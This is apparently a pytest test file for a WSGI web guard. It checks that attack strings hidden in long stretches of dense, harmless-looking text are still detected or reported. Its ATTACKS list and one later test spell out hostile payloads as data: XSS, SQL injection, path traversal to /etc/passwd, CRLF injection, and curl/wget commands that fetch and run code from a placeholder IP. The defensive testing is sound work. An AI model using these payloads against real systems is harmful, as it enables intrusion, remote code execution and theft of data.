"""Attacks behind, before and inside dense text: mostly found, and otherwise never passed as looked at."""

from __future__ import annotations

import json
import random
from typing import Any
from urllib.parse import quote_plus

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from wsgi_guard.validation.threats.budget import Budget
from wsgi_guard.validation.threats.screen import FINDERS, screen

from .asking import FORM, JSON, Audit, Site

# What is costly to look at and no attack: quotes, operators, keywords, brackets, escapes; the number makes it differ.
UNITS = (
    "f(x{0})[i] = {{'a': \"b{0}\"}}; ", "if (a{0} && b[{0}] || !c) {{ d({0}); }}\n", "select{0} from where order{0}, ",
    "o'neil{0} isn't 'x{0}' ", "<p class=\"c{0}\">&amp;{0}</p>\n", "x{0} = y[{0}] | z ^ {0} & 7;\n",
    "\\n{0}\\t ", "%d{0}% ", "echo $a{0} > b.{0}\n", "case {0}: cat.eval{0}(1), ", "(({0}))=>[{0},{{}}] ",
    "alert{0} script{0} union{0} ", "/a/b{0}/../c.png ", "a{0}*b{0}; ", "@x{0}: y{0}; ", "position{0}=1 on{0}='' ",
    "\"k{0}\":null,",
)  # fmt: skip
# Text of which a guard knows by itself that it is one, wherever it stands.
ATTACKS = (
    "<script>alert(document.cookie)</script>", "<img src=x onerror=alert(1)>", "<a href=javascript:alert(1)>x</a>",
    "1' union select name,pass from users-- ", "'; drop table users;-- ", "'; waitfor delay '0:0:5'-- ",
    "1 and extractvalue(1,concat(0x7e,version()))", "$(curl http://198.51.100.7/x)",
    "; wget http://198.51.100.7/x -O- | sh", "../../../../etc/passwd", "php://filter/convert.base64-encode/resource=x",
    "\r\nset-cookie: a=b",
)  # fmt: skip


def padding(units: list[str], size: int, seed: int) -> str:
    """Text of these units in random order, numbered so that nothing repeats itself."""
    chance, pieces, length, number = random.Random(seed), [], 0, 0
    while length < size:
        piece = chance.choice(units).format(number)
        pieces.append(piece)
        length, number = length + len(piece), number + 1
    return "".join(pieces)


def as_json(values: list[str]) -> dict[str, Any]:
    return {"method": "POST", "body": json.dumps(dict(enumerate(values))).encode(), "CONTENT_TYPE": JSON}


def as_form(values: list[str]) -> dict[str, Any]:
    fields = "&".join(f"a{number}={quote_plus(value)}" for number, value in enumerate(values))
    return {"method": "POST", "body": fields.encode(), "CONTENT_TYPE": FORM}


def as_query(values: list[str]) -> dict[str, Any]:
    return {"query": "&".join(f"a{number}={quote_plus(value)}" for number, value in enumerate(values))}


def placed(text: str, attack: str, where: str) -> list[str]:
    half = len(text) // 2
    if where == "spread":
        step = max(len(text) // 20, 1)
        return [*(text[at : at + step] for at in range(0, len(text), step)), attack]
    return [{"behind": text + attack, "before": attack + text, "inside": text[:half] + attack + text[half:]}[where]]


PLACES = {"json": as_json, "form": as_form, "query": as_query}
WHERE = ("behind", "before", "inside", "spread")
# Servers let no longer request line through.
QUERY = 6_000
paddings = st.builds(
    padding, st.lists(st.sampled_from(UNITS), min_size=1, max_size=6), st.integers(0, 64_000), st.integers(0, 9)
)


def asked(site: Site, place: str, values: list[str]) -> int:
    return site.ask("/", **PLACES[place](values)).code


@pytest.mark.parametrize("place", PLACES)
@settings(max_examples=25, deadline=None)
@given(text=paddings, attack=st.sampled_from(ATTACKS), where=st.sampled_from(WHERE))
def test_a_padded_attack_is_found_or_refused_as_not_looked_at(place: str, text: str, attack: str, where: str) -> None:
    site = Site(None, threats={"mode": "block", "beyond": "refuse"})
    text = text[:QUERY] if place == "query" else text
    assert asked(site, place, placed(text, f" {attack} ", where)) in (403, 413)


@pytest.mark.parametrize("place", PLACES)
def test_by_default_nearly_all_padded_attacks_are_found_and_the_others_told(place: str, audit: Audit) -> None:
    site = Site(None, threats={"mode": "block"})
    chance, found = random.Random(place), 0
    for number in range(100):
        units, size = chance.sample(UNITS, chance.randint(1, 6)), chance.choice((2_000, 6_000, 16_000, 64_000))
        text = padding(units, size, number)
        text = text[:QUERY] if place == "query" else text
        values = placed(text, f" {chance.choice(ATTACKS)} ", chance.choice(WHERE))
        audit.decisions.clear()
        code = asked(site, place, values)
        assert code == 403 or ("unscanned", "body") in audit.kinds(), (text[:200], values[-1][-90:])
        found += code == 403
    assert found >= 95


@pytest.mark.parametrize("unit", UNITS)
def test_work_grows_with_length_alone(unit: str) -> None:
    def work(size: int) -> int:
        budget, enough = Budget(), 10**12
        budget.left = budget.sieve = enough
        screen(padding([unit], size, 0), FINDERS, budget=budget)
        return 2 * enough - budget.left - budget.sieve

    assert work(256_000) <= 6 * work(64_000)
    assert work(64_000) <= 6 * work(16_000)


def test_no_more_is_spent_than_there_is_and_one_step() -> None:
    for size in (1_000, 16_000, 64_000, 256_000):
        budget = Budget(size)
        there = budget.left + budget.sieve
        screen(padding(list(UNITS), size, 0), FINDERS, budget=budget)
        assert budget.left > -there / 10
        assert budget.sieve > -there / 10


def test_dense_text_without_an_attack_is_not_refused() -> None:
    site = Site(None, threats={"mode": "block"})
    for unit in UNITS:
        for size in (2_000, 20_000, 100_000):
            assert asked(site, "json", [padding([unit], size, 0)]) == 200, unit


def test_decoys_that_look_the_same_hide_nothing_silently(audit: Audit) -> None:
    decoys = "".join(f"alert(a); {'b' * 60} [{number}] = {{}}; " for number in range(900))
    site = Site(None, threats={"mode": "block"})
    code = asked(site, "json", [f"{decoys} <b>{ATTACKS[0]}</b> {padding(list(UNITS), 9_000, 0)}"])
    assert code == 403 or ("unscanned", "body") in audit.kinds()


@pytest.mark.parametrize("size", [8_000, 46_000])
@pytest.mark.parametrize("attack", ["' or 1=1--", "<script>alert(1)</script>", "; cat /etc/passwd"])
def test_dense_text_hides_no_short_one_beside_it(attack: str, size: int) -> None:
    unit = "f{0}(x) 'a{0} or {0} < ${{b{0}}} <a{0} on{0}= ; c{0} ../{0} (select {0} alert({0}"
    dense = padding([unit], size, 1)
    site = Site(None, threats={"mode": "block"})
    for document in ({"a": attack, "b": dense}, {"b": dense, "a": attack}, {"b": dense, "c": {"d": [attack]}}):
        assert site.ask("/", "POST", json.dumps(document).encode(), CONTENT_TYPE=JSON).code == 403
